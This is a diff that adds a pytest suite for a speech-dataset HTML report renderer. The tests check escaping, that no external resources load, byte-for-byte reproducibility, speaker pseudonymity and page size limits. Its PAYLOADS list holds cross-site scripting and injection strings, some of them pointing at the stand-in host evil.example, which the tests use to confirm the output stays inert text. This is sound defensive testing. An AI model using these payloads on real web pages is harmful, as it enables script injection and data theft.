@@ -1,0 +1,198 @@
+from __future__ import annotations
+
+import json
+import shutil
+from collections import Counter
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+from report_world import BANKS, cut_row, facts_of, ledger_row, segment_row, some_cuts, write_folder
+
+from speccraft.report import page as module
+from speccraft.report.page import render_report, verdict_of, write_report
+from speccraft.sound.place import BankItem
+
+PAYLOADS = (
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "</style><style>*{background:url(https://evil.example/x)}",
+    "</title><base href=//evil.example>",
+    "<!-- --> ]]> {{ 7*7 }} {% raw %}",
+    "\u2028<iframe srcdoc='<script>1</script>'>\u202e\x1b[31m",
+    "</p></table></details></svg><form action=https://evil.example><input autofocus>",
+)
+FILES = ("report.html", "report.json", "README.md")
+
+
+class Page(HTMLParser):
+    """What an HTML parser sees: elements with their attribute names, values that could act, and the text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.skeleton: Counter[tuple[str, ...]] = Counter()
+        self.links: set[str] = set()
+        self.labels: list[str] = []
+        self.words: list[str] = []
+        self.feed(html)
+        self.close()
+        self.text = " ".join(" ".join(self.words).split())
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.skeleton[(tag, *(name for name, _ in attrs))] += 1
+        self.links |= {value or "" for name, value in attrs if name in ("href", "src", "action", "srcset", "style")}
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+
+def build(folder: Path, text: str, *, pseudonyms: bool) -> Page:
+    """A page in which every string that a source, a file or a person can choose is `text`."""
+    cuts = [cut_row(number, split, text=text, speaker=text, source=text) for number, split in enumerate(["train"] * 6 + ["dev", "test"])]
+    lost = [
+        ledger_row(f"{text}.wav", "failed", None, reason=f"broken: {text}", source=text),
+        ledger_row(f"{text}2.wav", "dropped", 9.0, rule=text, value=text, limit=text, source=text),
+        ledger_row(f"{text}3.wav", "refused", 9.0, reason=text, source=text),
+    ]
+    dropped = [segment_row(cut_row(50, text=text, source=text), f"{text}2.wav", fate="dropped", rule=text, value=text, limit=text)]
+    banks = [BankItem(text, text, "rir", "train", "x.flac", 1.0, text, 0.5), BankItem("b", "trains", "noise", "test", "y.flac", 1.0, "CC0-1.0")]
+    certificate = {"axes": {text: {"train": 1, "dev": 1, "test": 1, "shared": [text]}}, "notes": [text], "banks": {text: {"train": [text], "test": [text]}}}
+    write_folder(folder, cuts, lost, dropped, banks=banks, certificate=certificate)
+    environment = {"place": text, "snr_db": {"low": 0.0, "high": 20.0}, "noise": ["trains"]}
+    facts = facts_of({"environment": environment, "privacy": {"pseudonyms": pseudonyms}}, refusals=((text, text, 1),), name=text)
+    write_report(folder, facts)
+    return Page((folder / "report.html").read_text())
+
+
+@pytest.mark.parametrize("pseudonyms", [True, False])
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_in_any_field_stays_text(payload: str, pseudonyms: bool, tmp_path: Path) -> None:
+    plain, attacked = build(tmp_path / "plain", "harmless", pseudonyms=pseudonyms), build(tmp_path / "attacked", payload, pseudonyms=pseudonyms)
+    assert attacked.skeleton == plain.skeleton
+    assert attacked.links == plain.links
+    assert "".join(payload.replace("\u2028", " ").replace("\u202e", "").replace("\x1b", "").split()) in "".join(attacked.text.split())
+
+
+def test_the_page_asks_for_nothing_and_runs_nothing(tmp_path: Path) -> None:
+    write_report(write_folder(tmp_path, some_cuts()), facts_of())
+    html = (tmp_path / "report.html").read_text()
+    seen = Page(html)
+    assert all(link.startswith(("#", "data:audio/flac;base64,")) for link in seen.links)
+    assert not {tag for tag, *_ in seen.skeleton} & {"script", "link", "iframe", "object", "embed", "form", "base"}
+    assert not [name for _, *names in seen.skeleton for name in names if name.startswith("on")]
+    assert "default-src 'none'" in html
+    assert "http://" not in html
+    assert "https://" not in html
+    assert "url(" not in html
+
+
+def test_elements_close_in_the_order_they_open(tmp_path: Path) -> None:
+    write_report(write_folder(tmp_path, some_cuts()), facts_of())
+
+    class Nesting(HTMLParser):
+        open: list[str] = []  # noqa: RUF012
+
+        def handle_starttag(self, tag: str, attrs: Any) -> None:
+            if tag not in ("meta", "br", "wbr"):
+                self.open.append(tag)
+
+        def handle_endtag(self, tag: str) -> None:
+            assert self.open.pop() == tag
+
+    nesting = Nesting()
+    nesting.feed((tmp_path / "report.html").read_text())
+    assert nesting.open == []
+
+
+def test_the_same_build_gives_the_same_bytes_wherever_it_lies(tmp_path: Path) -> None:
+    for name in ("one", "two"):
+        write_report(write_folder(tmp_path / name, some_cuts()), facts_of())
+    for file in FILES:
+        assert (tmp_path / "one" / file).read_bytes() == (tmp_path / "two" / file).read_bytes()
+
+
+def test_the_page_can_be_made_again_from_its_data_alone(tmp_path: Path) -> None:
+    verdict = write_report(write_folder(tmp_path / "build", some_cuts()), facts_of())
+    report = json.loads((tmp_path / "build" / "report.json").read_text())
+    html = (tmp_path / "build" / "report.html").read_text()
+    shutil.rmtree(tmp_path / "build")
+    assert render_report(report) == html
+    assert verdict_of(report) == verdict
+
+
+@pytest.mark.parametrize(
+    ("cuts", "says"),
+    [
+        ([], "Nothing was kept: the build holds no cut"),
+        ([cut_row(0)], "The test split is empty"),
+        ([cut_row(0, "test", snr_db=None, level_dbfs=None, characters_per_s=None, speaker=None, text=None)], "(no transcript)"),
+    ],
+)
+def test_builds_of_no_cut_and_of_one_cut_render(cuts: list[dict[str, Any]], says: str, tmp_path: Path) -> None:
+    verdict = write_report(write_folder(tmp_path, cuts, banks=[]), facts_of())
+    text = Page((tmp_path / "report.html").read_text()).text
+    assert verdict.word == "BLOCK"
+    assert "BLOCK" in text
+    assert says in text
+
+
+def test_a_build_whose_every_row_was_rejected_says_where_they_went(tmp_path: Path) -> None:
+    lost = [ledger_row(f"{number}.wav", "dropped", 10.0, rule="snr_db", value="1.5", limit="≥ 5") for number in range(6)]
+    segments = [segment_row(cut_row(number, seconds=10.0), f"{number}.wav", fate="dropped", rule="snr_db") for number in range(6)]
+    verdict = write_report(write_folder(tmp_path, [], lost, segments, banks=[]), facts_of())
+    text = Page((tmp_path / "report.html").read_text()).text
+    assert verdict.word == "BLOCK"
+    assert "The rule snr_db dropped 100 % of what it judged" in text
+    assert "There is no cut to listen to" in text
+
+
+def test_columns_that_are_null_in_every_row_are_read(tmp_path: Path) -> None:
+    write_folder(tmp_path, some_cuts())
+    for name in ("measures", "segments", "ledger"):
+        table = pl.read_parquet(tmp_path / f"{name}.parquet")
+        untyped = table.with_columns(pl.lit(None).alias(column) for column in ("rule", "value", "snr_db", "place_rt60_s") if column in table.columns)
+        untyped.write_parquet(tmp_path / f"{name}.parquet")
+    write_report(tmp_path, facts_of())
+    assert "nothing measured" in (tmp_path / "report.html").read_text()
+
+
+def test_no_file_of_the_report_tells_a_speakers_name_where_pseudonyms_are_wanted(tmp_path: Path) -> None:
+    lost = [ledger_row("canary-7/x.wav", "failed", None, reason="canary-7/x.wav: canary-7 is silent")]
+    cuts = [cut_row(number, split, speaker="canary-7") for number, split in enumerate(["train", "dev", "test"] * 4)]
+    certificate = {"axes": {"speaker": {"train": 1, "test": 1, "shared": ["canary-7"]}}, "notes": ["canary-7 bridges two sessions"]}
+    facts = facts_of({"splits": {"unseen": {"speaker": ["canary-7"]}}}, refusals=(("digits", "canary-7 withdrew consent", 1),))
+    write_report(write_folder(tmp_path, cuts, lost, certificate=certificate), facts)
+    assert [name for name in FILES if "canary" in (tmp_path / name).read_text()] == []
+
+
+def test_scripts_that_read_right_to_left_or_join_their_letters_are_shown_whole(tmp_path: Path) -> None:
+    texts = ("مرحبا بالعالم", "क्‍षमा कीजिए")
+    write_report(write_folder(tmp_path, [cut_row(number, "test", text=text, snr_db=number) for number, text in enumerate(texts * 2)]), facts_of())
+    text = Page((tmp_path / "report.html").read_text()).text
+    assert all(words in text for words in texts)
+
+
+def test_clips_make_way_when_the_page_would_grow_too_large(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_folder(tmp_path, some_cuts())
+    write_report(tmp_path, facts_of())
+    size = (tmp_path / "report.html").stat().st_size
+    monkeypatch.setattr(module, "MOST_PAGE_BYTES", size - 1000)
+    write_report(tmp_path, facts_of())
+    report = json.loads((tmp_path / "report.json").read_text())
+    assert (tmp_path / "report.html").stat().st_size <= size - 1000
+    assert report["clips"]["left_out"] >= 1
+    assert "did not fit" in (tmp_path / "report.html").read_text()
+
+
+def test_a_large_build_stays_within_the_page_budget(tmp_path: Path) -> None:
+    cuts = [cut_row(number, ("train", "dev", "test")[number % 3], speaker=f"s{number % 997}", text="word " * 400) for number in range(4000)]
+    lost = [ledger_row(f"{number}.wav", "failed", None, reason="x" * 3000, rule=f"rule {number % 90}") for number in range(2000)]
+    banks = [BankItem(f"r{number}", "halls", "rir", "train", "x", 1.0, "CC0-1.0", number / 100) for number in range(3000)] + BANKS
+    certificate = {"notes": ["long " * 1000] * 500}
+    write_report(write_folder(tmp_path, cuts, lost, banks=banks, certificate=certificate, seconds_of_tone=0.05), facts_of())
+    assert (tmp_path / "report.html").stat().st_size < 700_000
